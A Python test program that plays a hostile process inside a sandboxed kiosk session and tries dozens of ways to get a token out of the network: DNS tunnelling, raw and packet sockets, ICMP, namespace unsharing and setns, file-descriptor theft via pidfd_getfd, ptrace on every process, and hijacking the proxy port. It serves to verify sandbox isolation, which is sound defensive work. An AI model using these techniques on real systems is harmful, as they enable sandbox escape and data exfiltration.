"""A hostile program in the place of the session's: every way out of its network that it can think of.

Runs as: the kiosk user in a session, where nothing may arrive; root outside of it, where each way must
arrive, or it would prove nothing.

Each way tries to bring its token, WHERE + "-" + its name, to something that listens or to the wire.
The names that it does not define are those of egress_requests.py, whose text stands before its own.
What it believes of its success is printed, and counts for nothing.
"""
import ctypes
import fcntl
import glob
import json
import os
import socket
import struct
import sys

WHERE = sys.argv[1] if len(sys.argv) > 1 else "inside"
CLONE_NEWNET, CLONE_NEWUSER, CLONE_NEWNS = 0x40000000, 0x10000000, 0x20000
WAYS = {}
libc = ctypes.CDLL(None, use_errno=True)


def way(function):
    WAYS[function.__name__.replace("_", "-")] = function
    return function


def stream(family, address, data):
    with socket.socket(family) as connection:
        connection.settimeout(SECONDS)
        connection.connect(address)
        connection.sendall(data)
        return connection.recv(100)


def datagram(family, address, data, kind=socket.SOCK_DGRAM, protocol=0, options=()):
    with socket.socket(family, kind, protocol) as sender:
        for option in options:
            sender.setsockopt(*option)
        sender.sendto(data, address)


def foreign(token):
    return stream(socket.AF_INET, (FOREIGN, 443), token)


def must(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def query(token):
    name = b"".join(bytes([len(label)]) + label for label in (token, b"foreign", b"example")) + b"\0"
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data + b"\0" * (len(data) % 2))[:len(data) // 2])
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def echo_request(token):
    data = struct.pack(">BBHHH", 8, 0, 0, 7, 7) + token + b"." * (len(token) % 2)
    return data[:2] + struct.pack(">H", checksum(data)) + data[4:]


@way
def tcp_to_a_foreign_address(token):
    foreign(token)


@way
def tcp_to_a_foreign_ipv6_address(token):
    stream(socket.AF_INET6, (FOREIGN6, 443), token)


@way
def tcp_to_the_webmail_itself(token):
    stream(socket.AF_INET, (ALLOWED_ADDRESS, 443), token)


@way
def loopback_service_of_the_machine(token):
    stream(socket.AF_INET, ("127.0.0.1", LOCAL_PORT), token)


@way
def loopback_service_by_ipv6(token):
    stream(socket.AF_INET6, ("::1", LOCAL_PORT), token)


@way
def loopback_service_by_another_address(token):
    stream(socket.AF_INET, ("0.0.0.0", LOCAL_PORT), token)


@way
def dns_by_udp(token):
    datagram(socket.AF_INET, (DNS, 53), query(token))


@way
def dns_by_tcp(token):
    question = query(token)
    stream(socket.AF_INET, (DNS, 53), struct.pack(">H", len(question)) + question)


@way
def dns_by_the_library(token):
    socket.getaddrinfo(f"{token.decode()}.foreign.example", 443)


@way
def multicast_dns(token):
    datagram(socket.AF_INET, ("224.0.0.251", 5353), query(token),
             options=[(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(FOREIGN if WHERE == "outside" else "0.0.0.0"))])


@way
def udp_to_a_foreign_address(token):
    datagram(socket.AF_INET, (FOREIGN, 123), token)


@way
def udp_to_a_foreign_ipv6_address(token):
    datagram(socket.AF_INET6, (FOREIGN6, 123), token)


@way
def udp_broadcast(token):
    datagram(socket.AF_INET, ("255.255.255.255", 9), token, options=[(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)])


@way
def icmp_by_ping_socket(token):
    with open("/proc/sys/net/ipv4/ping_group_range", "w" if os.geteuid() == 0 else "r") as groups:
        if os.geteuid() == 0:
            groups.write("0 2147483647")
    datagram(socket.AF_INET, (FOREIGN, 0), echo_request(token), protocol=socket.IPPROTO_ICMP)


@way
def icmp_by_raw_socket(token):
    datagram(socket.AF_INET, (FOREIGN, 0), echo_request(token), socket.SOCK_RAW, socket.IPPROTO_ICMP)


@way
def raw_ip_packet(token):
    datagram(socket.AF_INET, (FOREIGN, 0), token, socket.SOCK_RAW, 253)


@way
def packet_socket(token):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as sender:
        for _, name in socket.if_nameindex():
            sender.sendto(b"\0" * 12 + b"\x88\xb5" + token, (name, 0))


@way
def abstract_socket_of_the_machine(token):
    stream(socket.AF_UNIX, "\0egress-service", token)


def socket_of(path):
    def attempt(token):
        stream(socket.AF_UNIX, path, token)
    return attempt


SOCKETS = ("/run/dbus/system_bus_socket", "/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve",
           "/run/NetworkManager/private", "/run/avahi-daemon/socket", "/run/cups/cups.sock", "/run/docker.sock")
for path in SOCKETS:
    WAYS["socket-" + os.path.basename(path).replace(".", "-").replace("_", "-").lower()] = socket_of(path)


def rtnetlink(kind, flags, body):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
        netlink.send(struct.pack("=IHHII", 16 + len(body), kind, flags | 5, 1, 0) + body)
        answer = netlink.recv(4096)
        if struct.unpack_from("=i", answer, 16)[0] < 0:
            raise OSError(-struct.unpack_from("=i", answer, 16)[0], "netlink")


def attribute(kind, data):
    return struct.pack("=HH", 4 + len(data), kind) + data + b"\0" * (-len(data) % 4)


def add_address_and_route():
    """What it takes to reach FOREIGN by the first device, where there is one to the world."""
    rtnetlink(20, 0x400, struct.pack("=BBBBI", 2, 24, 0, 0, 1) + attribute(2, socket.inet_aton("198.51.100.99")))
    rtnetlink(16, 0, struct.pack("=BxHiII", 0, 0, 1, 1, 1))


@way
def netlink_configures_a_device(token):
    try:
        add_address_and_route()
    finally:
        foreign(token)


@way
def netlink_moves_a_device_in(token):
    try:  # a pair of devices, one end of it in the network of process 1
        peer = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + attribute(19, struct.pack("=I", 1))
        rtnetlink(16, 0x600, struct.pack("=BxHiII", 0, 0, 0, 0, 0) + attribute(
            18, attribute(1, b"veth\0") + attribute(2, attribute(1, peer))))
    except OSError:
        pass
    foreign(token)


def in_child(prepare, token):
    pid = os.fork()
    if pid == 0:
        try:
            prepare()
        except OSError:
            pass
        for attempt in ("tcp-to-a-foreign-address", "packet-socket", "raw-ip-packet", "abstract-socket-of-the-machine"):
            try:
                WAYS[attempt](token)
            except OSError:
                pass
        os._exit(0)
    os.waitpid(pid, 0)


@way
def root_of_an_own_user_namespace(token):
    def prepare():
        uid = os.geteuid()
        must(libc.unshare(CLONE_NEWUSER))
        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1")):
            with open(f"/proc/self/{name}", "w") as file:
                file.write(text)
        add_address_and_route()
    in_child(prepare, token)


@way
def own_user_and_network_namespace(token):
    def prepare():
        must(libc.unshare(CLONE_NEWUSER | CLONE_NEWNET if WHERE == "inside" else CLONE_NEWUSER))
        add_address_and_route()
    in_child(prepare, token)


@way
def other_network_namespaces(token):
    for path in [*glob.glob("/proc/[0-9]*/ns/net"), *glob.glob("/proc/[0-9]*/task/*/ns/net"), *glob.glob("/run/netns/*"),
                 *glob.glob("/proc/self/fd/*"), *glob.glob("/proc/1/fd/*")]:
        def prepare(path=path):
            descriptor = os.open(path, os.O_RDONLY)
            must(libc.setns(descriptor, CLONE_NEWNET))
        in_child(prepare, token)


@way
def descriptors_of_the_proxy(token):
    if WHERE == "outside":
        foreign(token)
        return
    for folder in glob.glob("/proc/[0-9]*"):
        pid = int(os.path.basename(folder))
        if pid == os.getpid():
            continue
        try:
            handle = os.pidfd_open(pid)
        except OSError:
            continue
        for number in range(16):
            stolen = libc.syscall(438, handle, number, 0)  # pidfd_getfd
            if stolen > 2:
                try:
                    socket.socket(fileno=stolen).send(token)
                except OSError:
                    pass


@way
def debugger_on_every_process(token):
    if WHERE == "outside":  # root may do it to the whole machine: not for a test to try
        foreign(token)
        return
    for pid in range(1, 65536):
        if pid != os.getpid() and libc.ptrace(0x4206, pid, 0, 0) == 0:  # PTRACE_SEIZE
            print("attached", pid, file=sys.stderr)


@way
def tunnel_device(token):
    try:
        device = os.open("/dev/net/tun", os.O_RDWR)
        fcntl.ioctl(device, 0x400454ca, struct.pack("=16sH22x", b"egress%d", 1))
    finally:
        foreign(token)


@way
def virtual_machine_socket(token):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as connection:
        connection.settimeout(SECONDS)
        connection.connect((1, 7777))
        connection.sendall(token)
        connection.recv(100)


@way
def sctp(token):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_SCTP) as connection:
        connection.settimeout(SECONDS)
        connection.connect((FOREIGN, 7777))
        connection.sendall(token)
        connection.recv(100)


@way
def takes_the_place_of_the_proxy(token):
    """Whoever answers on the proxy's port would see what the browser asks for."""
    for option in ("SO_REUSEADDR", "SO_REUSEPORT"):
        with socket.socket() as thief:
            thief.setsockopt(socket.SOL_SOCKET, getattr(socket, option), 1)
            try:
                thief.bind(("0.0.0.0", 3128))
                thief.listen()
                print("way", json.dumps(["takes-the-place-of-the-proxy", "bound"]), file=sys.stderr)
            except OSError:
                pass
    if WHERE == "outside":
        foreign(token)


# Those of egress_requests.py, which stands before this.
WAYS.update({"proxy-" + name: request_of(text) for name, text in REQUESTS.items()})


def main():
    for name, attempt in WAYS.items():
        try:
            result = attempt(f"{WHERE}-{name}".encode())
        except OSError as error:
            result = f"{type(error).__name__} {error.errno}"
        print("way", json.dumps([name, str(result)]), file=sys.stderr, flush=True)
    print("ways over", len(WAYS), file=sys.stderr, flush=True)
    if WHERE == "inside":
        os.write(3, b"reason=idle\n")
        os._exit(34)


main()
